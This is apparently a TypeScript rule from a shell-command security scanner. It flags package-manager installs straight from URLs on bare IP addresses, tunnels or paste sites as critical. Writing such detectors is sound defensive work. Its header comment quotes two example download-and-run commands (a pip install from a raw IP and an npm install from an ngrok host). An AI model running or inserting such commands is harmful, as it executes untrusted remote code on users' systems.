// A package installed straight from a URL on a host that is foreign by its kind (a bare public
// address, a tunnel, a paste or file-drop site): `pip install http://185.172.128.9/pkg.tar.gz`,
// `npm install https://x.ngrok.app/p.tgz`. Installing runs the package's own code (setup.py, install
// scripts) at once, so it is a download run: critical. Packages from an index, a repository host or
// the organisation's own servers are left to the other rules.

import { quote } from './findings.ts';
import { foreignHost } from './foreign-destinations.ts';
import type { RuleContext } from './shell-rule-context.ts';

const INSTALLERS = /^(?:pip\d?(?:\.\d+)?|uv|pipx|npm|pnpm|yarn|bun|gem)$/;
const URL = /^(?:git\+)?(?:https?|ftp):\/\/([^/:?#\s]+)/i;

/** Adds a critical finding when a package manager installs from a URL on a foreign-by-kind host. */
export function packageUrlInstallRule(c: RuleContext): void {
  if (!INSTALLERS.test(c.name)) return;
  const texts = c.args.map((word) => word.text);
  const at = texts.findIndex((text) => text === 'install' || text === 'add' || text === 'i');
  if (at < 0) return;
  for (const text of texts.slice(at + 1, at + 33)) {
    const host = URL.exec(text)?.[1];
    const why = host === undefined ? undefined : foreignHost(host);
    if (why === undefined) continue;
    c.scan.add('critical', `shell: installs a package from a ${why} (${quote(text)}); installing runs its code`);
    return;
  }
}
